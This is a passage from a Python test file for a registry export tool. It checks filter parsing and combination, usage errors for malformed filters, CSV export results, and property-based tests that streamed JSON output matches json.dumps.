    ("written", "expected"),
    [
        ("kind:project", {"bea-app", "rdi2club", "baltic-forbio", "creadis3"}),
        ("kind:hanke person:partanen", {"creadis3"}),
        ("tyyppi:aihe henkilö:raija-partanen", {"creative-economy"}),
        (
            "kind:project or person:pirinen",
            {
                "bea-app",
                "rdi2club",
                "baltic-forbio",
                "creadis3",
                "education-export",
                "kari-pirinen",
            },
        ),
        ('query:"Brussels office"', {"wfeo"}),
        ("query:ERRIN or query:FEDARENE", {"errin", "fedarene"}),
        ("kind:topic query:FEDARENE", set()),
    ],
)
def test_written_filters_combine(bundled: Registry, written: str, expected: set[str]) -> None:
    assert {r.item.id for r in export.select(bundled, filters.parse(written))} == expected


def test_filter_operators_are_the_written_ones(bundled: Registry) -> None:
    both = filters.KindIs("project") & filters.HandledBy("partanen")
    either = filters.KindIs("network") | filters.Answers("koulutusvienti")
    assert {r.item.id for r in export.select(bundled, both)} == {"creadis3"}
    assert {r.item.id for r in export.select(bundled, either)} == {
        *(e.id for e in bundled.entries.values() if e.kind == "network"),
        "education-export",
    }


def test_a_query_keeps_who_order_within_alternatives(bundled: Registry) -> None:
    rows = export.select(bundled, filters.parse("query:ERRIN or kind:project"))
    assert rows[0].item.id == "errin"  # ranked by the query first, the rest in listed order


@pytest.mark.parametrize(
    "written", ["colour:red", "kind:dragon", "kind:", "or kind:topic", "query:'open"]
)
def test_a_bad_filter_is_a_usage_error(run: Invoke, written: str) -> None:
    result = run("export", "--where", written)
    assert result.exit_code == 2
    assert "not a filter" in result.stderr and "Traceback" not in result.stderr


def test_where_option_and_the_other_filters_all_hold(run: Invoke) -> None:
    result = run("export", "--where", "kind:project or kind:topic", "--person", "partanen")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["id"] for r in rows} == {"creadis3", "creative-economy"}


_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.tuples(inner, inner)
        | st.dictionaries(st.text(max_size=5), inner, max_size=4)
        | st.dictionaries(st.integers(), inner, max_size=2)
    ),
    max_leaves=30,
)


@given(_JSON_VALUES)
def test_indented_json_writes_what_json_dumps_writes(document: object) -> None:
    expected = json.dumps(document, ensure_ascii=False, indent=2, default=str)
    assert render.indented_json(document) == expected


@settings(max_examples=40, deadline=None)
@given(st.lists(_JSON_VALUES, max_size=4), st.sampled_from([0, 1, 700]))
def test_items_are_written_as_the_list_of_them(items: list[object], repeat: int) -> None:
    # An export's arrays are made item by item as they are written (views.Items), in
    # chunks; the text is what json.dumps writes for the whole list.
    whole = items * repeat
    document = {"records": views.Items(len(whole), lambda: iter(whole)), "n": 1}
    expected = json.dumps({"records": whole, "n": 1}, ensure_ascii=False, indent=2, default=str)
    chunks: list[str] = []
    render.write_json(document, chunks.append)
    assert "".join(chunks) == render.indented_json(document) == expected
